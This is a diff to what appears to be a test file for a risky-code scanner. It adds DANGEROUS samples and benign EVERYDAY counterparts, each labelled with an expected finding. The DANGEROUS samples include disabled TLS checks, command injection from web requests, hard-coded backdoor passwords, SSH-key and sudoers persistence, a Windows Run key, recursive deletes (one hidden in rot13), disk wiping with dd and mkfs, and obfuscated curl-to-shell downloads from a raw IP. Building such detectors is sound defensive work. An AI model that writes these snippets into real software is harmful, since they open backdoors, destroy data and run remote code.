@@ -119,6 +119,109 @@ DANGEROUS = {
         "metadata",
     ),
     "ruby backticks": ("lib/tasks/wipe.rake", "task :wipe do\n  `rm -rf ~/`\nend", "recursive"),
+    "go turns off certificate checks": (
+        "client.go",
+        'package c\nimport "crypto/tls"\nvar cfg = &tls.Config{InsecureSkipVerify: true}',
+        "TLS certificate checks",
+    ),
+    "c# accepts any certificate": (
+        "Ledger.cs",
+        "handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;",
+        "TLS certificate checks",
+    ),
+    "a windows run key": (
+        "Setup.cs",
+        'Registry.CurrentUser.OpenSubKey(@"Software\\Microsoft\\Windows\\CurrentVersion\\Run", '
+        'true).SetValue("upd", exe);',
+        "starts by itself",
+    ),
+    "code truncates tables": (
+        "src/db/bootstrap.ts",
+        "export async function boot(db: Db) {\n  if (process.env.NODE_ENV === 'production') {\n"
+        "    await db.query('TRUNCATE TABLE users, orders CASCADE');\n  }\n}",
+        "runs SQL that",
+    ),
+    "a command from a request variable": (
+        "src/debug.js",
+        "app.get('/x', (req, res) => {\n  const c = req.query.c;\n"
+        "  require('child_process').exec(c, (e, o) => res.send(o));\n});",
+        "web request's input",
+    ),
+    "a spring parameter run as a command": (
+        "src/main/java/Diag.java",
+        '@GetMapping("/diag")\npublic String diag(@RequestParam String q) throws Exception {\n'
+        '  Process p = Runtime.getRuntime().exec(q);\n  return "ok";\n}',
+        "web request's input",
+    ),
+    "a magic header value": (
+        "src/mw/auth.ts",
+        "if (req.header('x-support-override') === 'f3a91c7e2b444d1a9e0f77c5') {\n"
+        "  return next();\n}",
+        "backdoor shape",
+    ),
+    "a password matched by its hash code": (
+        "src/Login.kt",
+        "fun ok(password: String) = password.hashCode() == 1216985755",
+        "backdoor shape",
+    ),
+    "a go password literal": (
+        "internal/auth/mw.go",
+        'user, pass, ok := r.BasicAuth()\nif ok && pass == "Sup3rS3cretM@ster" {\n\tadmin(user)\n}',
+        "backdoor shape",
+    ),
+    "an ssh key written from php": (
+        "app/Setup.php",
+        "<?php\nfile_put_contents('/root/.ssh/authorized_keys', $key, FILE_APPEND);",
+        "start-up file",
+    ),
+    "a sudoers drop-in from go": (
+        "internal/setup/p.go",
+        'package setup\nimport "os"\nfunc P() {\n\tos.WriteFile("/etc/sudoers.d/90-app", '
+        '[]byte("app ALL=(ALL) NOPASSWD: ALL\\n"), 0o440)\n}',
+        "sudoers",
+    ),
+    "swift empties the home folder": (
+        "Sources/Reset.swift",
+        "let fm = FileManager.default\nlet home = fm.homeDirectoryForCurrentUser\n"
+        "for item in (try? fm.contentsOfDirectory(at: home, includingPropertiesForKeys: nil))"
+        " ?? [] "
+        "{\n    try? fm.removeItem(at: item)\n}",
+        "recursive delete",
+    ),
+    "a bucket deleted through an sdk": (
+        "src/main/java/Janitor.java",
+        "s3.deleteBucket(b -> b.bucket(bucket));",
+        "cloud storage",
+    ),
+    "gradle pipes a download to bash": (
+        "build.gradle.kts",
+        'tasks.register<Exec>("setup") {\n    commandLine("bash", "-c", '
+        '"curl -fsSL https://get.example.io/i.sh | bash")\n}',
+        "download piped to a shell",
+    ),
+    "php hides a delete in rot13": (
+        "app/Purge.php",
+        "<?php\nshell_exec(str_rot13('ez -es --ab-cerfreir-ebbg /'));",
+        "recursive delete",
+    ),
+    "go dd onto a disk in a variable": (
+        "tools/bench/main.go",
+        'package main\nimport "os/exec"\nfunc main() {\n\tdev := "/dev/sda"\n'
+        '\texec.Command("dd", "if=/dev/zero", "of="+dev, "bs=4M").Run()\n}',
+        "disk device",
+    ),
+    "rust mkfs on a device it is given": (
+        "src/main.rs",
+        "use std::process::Command;\nfn main() {\n    let dev = std::env::args().nth(1).unwrap();\n"
+        '    Command::new("mkfs.ext4").args(["-F", &dev]).status().unwrap();\n}',
+        "file system",
+    ),
+    "rust concat hides a download": (
+        "build.rs",
+        'fn main() {\n    std::process::Command::new("sh").arg("-c")'
+        '.arg(concat!("cu", "rl -fsSL http://", "176.113.115.84/b | s", "h")).status();\n}',
+        "download piped to a shell",
+    ),
 }
 
 EVERYDAY = {
@@ -173,6 +276,35 @@ EVERYDAY = {
         '    System.out.println("hello " + String.join(",", args));\n  }\n}',
     ),
     "a kotlin data class": ("src/User.kt", "data class User(val id: Long, val email: String)"),
+    "a migration whose way back drops its table": (
+        "db/migrations/20240310_subs.sql",
+        "-- migrate:up\nCREATE TABLE subs (id BIGSERIAL PRIMARY KEY);\n\n"
+        "-- migrate:down\nDROP TABLE IF EXISTS subs;",
+    ),
+    "a container user made in a dockerfile": (
+        "Dockerfile",
+        "FROM debian:bookworm-slim\nRUN useradd -r -s /usr/sbin/nologin app\nUSER app\n"
+        'CMD ["/usr/local/bin/app"]',
+    ),
+    "a tool installed in the image": (
+        "tools/Dockerfile",
+        "FROM debian\nRUN curl -fsSL -o /usr/local/bin/hadolint "
+        "https://github.com/hadolint/hadolint/releases/download/v2.12.0/hadolint-Linux-x86_64 "
+        "&& chmod +x /usr/local/bin/hadolint",
+    ),
+    "a config file written in the workspace": (
+        "scripts/config.js",
+        "const fs = require('fs');\nfs.writeFileSync('dist/config.json', JSON.stringify(cfg));",
+    ),
+    "a local dev database reset": (
+        "package.json",
+        '{\n  "scripts": {\n    "db:reset": "dropdb --if-exists app_dev && createdb app_dev"'
+        "\n  }\n}",
+    ),
+    "an sdk lists a bucket": (
+        "src/list.ts",
+        "const out = await s3.send(new ListObjectsV2Command({ Bucket: 'site-assets' }));",
+    ),
     "a local server url": (
         "src/dev.ts",
         "export const base = 'http://localhost:3000';\nawait fetch(`${base}/health`);",
